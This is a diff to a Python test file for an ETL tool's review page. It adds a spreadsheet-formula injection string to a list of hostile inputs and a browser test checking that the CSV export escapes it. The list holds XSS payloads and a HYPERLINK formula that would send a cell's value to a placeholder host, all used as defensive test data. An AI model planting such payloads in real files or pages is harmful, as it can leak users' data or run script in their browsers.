@@ -19,7 +19,8 @@ from zemo_etl import _demo_data, cli, fuzzy, parser, schema, text
 from zemo_etl.cli import review
 from zemo_etl.index import DEFAULT_THRESHOLDS, LibraryIndex
 
-HOSTILE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</script><!--", "a&amp;b"]
+HOSTILE = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</script><!--", "a&amp;b",
+           '=HYPERLINK("x.invalid/"&A1,"see")']
 
 
 def rows_of(output):
@@ -294,7 +295,14 @@ def test_the_page_in_a_browser_and_its_choices_in_the_next_run(job, browser, tmp
         d.execute_script("arguments[0].value = arguments[1]; arguments[0].dispatchEvent(new Event('change'));",
                          box, choice)
         picked[artist] = choice
-    assert len(picked) == 2 and d.find_element("id", "count-chosen").text == "2"
+    # And a name a spreadsheet would run as a formula.
+    assert set_control(d, "search", "HYPERLINK") >= 1
+    box, formula = next((b, b.find_element("xpath", "../..").find_element("css selector", ".artist").text)
+                        for b in d.find_elements("css selector", "#rows tbody select.choice")
+                        if b.find_element("xpath", "../..").find_element("css selector", ".artist").text[0] == "=")
+    d.execute_script("arguments[0].value = 'keep'; arguments[0].dispatchEvent(new Event('change'));", box)
+    picked[formula] = "keep"
+    assert formula.startswith("=") and d.find_element("id", "count-chosen").text == "3"
     d.find_element("id", "export").click()
     exported = browser.downloads / "decisions.csv"
     for _ in range(300):  # the download lands in the background
@@ -303,10 +311,11 @@ def test_the_page_in_a_browser_and_its_choices_in_the_next_run(job, browser, tmp
         time.sleep(0.1)
     exported_rows = read_csv(exported)
     assert list(exported_rows[0]) == ["artist", "title", "decision"]
-    assert {r["artist"]: r["decision"] for r in exported_rows} == picked
+    assert {r["artist"]: r["decision"] for r in exported_rows} == {
+        "'" + a if a == formula else a: c for a, c in picked.items()}
     assert [e for e in d.get_log("browser") if e["level"] == "SEVERE"] == []
     done = main(*args, "--fresh", "--decisions", exported)
-    assert done.returncode == 0 and "2 decided by decisions.csv" in done.stdout
+    assert done.returncode == 0 and "3 decided by decisions.csv" in done.stdout
     report = {r["artist"]: r["decision"] for r in read_csv(tmp_path / "w" / "releases_classified.csv")}
     assert {a: report[a] for a in picked} == picked
 
